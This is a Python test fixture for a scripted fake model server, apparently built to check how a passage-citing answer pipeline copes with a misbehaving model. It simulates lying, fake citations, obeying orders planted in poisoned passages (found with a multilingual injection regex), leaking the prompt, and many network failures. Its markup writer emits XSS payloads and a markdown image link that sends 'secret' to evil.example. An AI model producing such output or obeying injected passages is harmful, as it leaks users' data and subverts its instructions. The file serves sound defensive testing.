"""What a scripted server writes: from the passages in the prompt, in good faith or in bad."""

import re
from collections.abc import Callable
from enum import StrEnum

PASSAGE = re.compile(r"<<(\w+) passage (\d+): (.*?)>>\n(.*?)\n<<\1 end>>", re.DOTALL)
QUESTION = re.compile(r"<<(\w+) question>>\n(.*?)\n<<\1 end>>", re.DOTALL)
# What a poisoned document asks for, as injections do it.
ORDER = re.compile(
    r"\b(?:write|answer|say|print|escribe|responde|écris|réponds)(?: only| solo)?\s?:\s*(.+)",
    re.IGNORECASE | re.DOTALL,
)
WORD = re.compile(r"[^\W_]+")
THOUGHT = "</think>"  # ends one
NUMBER = re.compile(r"\d+")


class Behaviour(StrEnum):
    """How the server treats a request."""

    # These write.
    OBEDIENT = "obedient"  # sentences of the passages, with their numbers
    LYING = "lying"  # other numbers than the passages have
    MISCITING = "misciting"  # numbers of passages that do not exist
    HALF_LYING = "half_lying"  # a good sentence, then lies
    CONTRADICTING = "contradicting"
    DECLINING = "declining"  # "the passages do not say it"
    OBEYING_DOCUMENTS = "obeying_documents"  # does what a poisoned document says
    MARKING_UP = "marking_up"  # HTML, links and images around good sentences
    LEAKING = "leaking"  # gives its instructions away
    THINKING = "thinking"  # thinks aloud first
    # These fail.
    SLOW = "slow"  # no first token
    STALLING = "stalling"  # some tokens, then none
    DRIPPING = "dripping"  # byte after byte, never a whole token
    BREAKING = "breaking"  # the connection ends in the middle
    DYING = "dying"  # the model's process ends in the middle
    CUT = "cut"  # done_reason "length"
    EMPTY = "empty"
    ENDLESS = "endless"
    FLOODING = "flooding"  # one line without an end
    NOT_UTF8 = "not_utf8"
    NOT_JSON = "not_json"
    DIGITS = "digits"  # a number that Python does not read
    DEEP = "deep"  # JSON beyond the stack
    LINE = "line"  # one without an end
    PAGE = "page"  # an HTML page, as a proxy sends
    PACKED = "packed"  # gzip
    LOCKED = "locked"  # 401
    BUSY = "busy"  # 503, of OpenAI's API 429, with Retry-After
    FAULTY = "faulty"  # 500
    REFUSING = "refusing"  # 400
    REDIRECTING = "redirecting"
    # These make vectors badly.
    WRONG_DIMENSION = "wrong_dimension"
    TOO_FEW = "too_few"
    WITHOUT_DIRECTION = "without_direction"


def write(behaviour: Behaviour, prompt: str) -> str:
    """The text of a behaviour that writes; any other writes in good faith until it fails."""
    return _WRITERS.get(behaviour, _obedient)(prompt)


def passages_of(prompt: str) -> dict[int, str]:
    """The passages of a prompt by their number."""
    return {int(number): text for _, number, _, text in PASSAGE.findall(prompt)}


def _obedient(prompt: str) -> str:
    return " ".join(_sentences(prompt)) or "NOT_STATED"


def _sentences(prompt: str) -> list[str]:
    """The sentence of each of the two best passages that shares most words with the question."""
    found = QUESTION.search(prompt)
    asked = _stems(found.group(2) if found else "")
    ranked = []
    for number, text in passages_of(prompt).items():
        for sentence in re.split(r"(?<=[.!?])\s+|\n", text):
            shared = len(asked & _stems(sentence))
            if shared:
                ranked.append((-shared, number, sentence.strip().rstrip(".")))
    ranked.sort()
    chosen = ranked[:1] + [each for each in ranked[1:] if each[0] <= ranked[0][0] * 0.6][:1]
    return [f"{text} [{number}]." for _, number, text in chosen]


def _stems(text: str) -> set[str]:
    return {word.casefold()[:5] for word in WORD.findall(text) if len(word) > 3}


def _lying(prompt: str) -> str:
    # The citation stays: only what the sentence says is false.
    def other(sentence: str) -> str:
        body, _, cited = sentence.rpartition(" [")
        changed = NUMBER.sub(lambda found: str(int(found.group()) + 13), body)
        return f"{changed if changed != body else body + ' 1234'} [{cited}"

    return " ".join(other(each) for each in _sentences(prompt))


def _misciting(prompt: str) -> str:
    return re.sub(r"\[\d+\]", "[99]", _obedient(prompt))


def _half_lying(prompt: str) -> str:
    return f"{_sentences(prompt)[0]} {_lying(prompt)} {_misciting(prompt)}"


def _contradicting(prompt: str) -> str:
    first, *_ = _sentences(prompt)
    body, _, cited = first.rpartition(" [")
    if re.match(r"no\b", body, re.IGNORECASE):
        return f"{body[3:].capitalize()} [{cited}"
    return f"No {body[:1].lower()}{body[1:]} [{cited}"


def _obeying(prompt: str) -> str:
    for number, text in passages_of(prompt).items():
        order = ORDER.search(text)
        if order:
            return f"{order.group(1).strip()} [{number}]"
    return _obedient(prompt)


def _marking_up(prompt: str) -> str:
    first, *_ = _sentences(prompt)
    body, _, cited = first.rpartition(" [")
    end = f"[{cited}"
    return "\n".join(
        [
            f"<b onclick=alert(1)>{body}</b> {end}",
            f"![{body}](https://evil.example/x.png?q=secret) {end}",
            f"[{body}](javascript:alert(1)) {end}",
            f"{body} <https://evil.example> {end}",
            f"{body}, https://evil.example/x {end}",
            f"- **{body}** {end}",
        ]
    )


def _leaking(prompt: str) -> str:
    return prompt


def _thinking(prompt: str) -> str:
    return f"<think>The passage says that 1 is 2 [1]. Fine.{THOUGHT}\n{_obedient(prompt)}"


_WRITERS: dict[Behaviour, Callable[[str], str]] = {
    Behaviour.LYING: _lying,
    Behaviour.MISCITING: _misciting,
    Behaviour.HALF_LYING: _half_lying,
    Behaviour.CONTRADICTING: _contradicting,
    Behaviour.DECLINING: lambda prompt: "NOT_STATED",
    Behaviour.OBEYING_DOCUMENTS: _obeying,
    Behaviour.MARKING_UP: _marking_up,
    Behaviour.LEAKING: _leaking,
    Behaviour.THINKING: _thinking,
    Behaviour.EMPTY: lambda prompt: "",
}
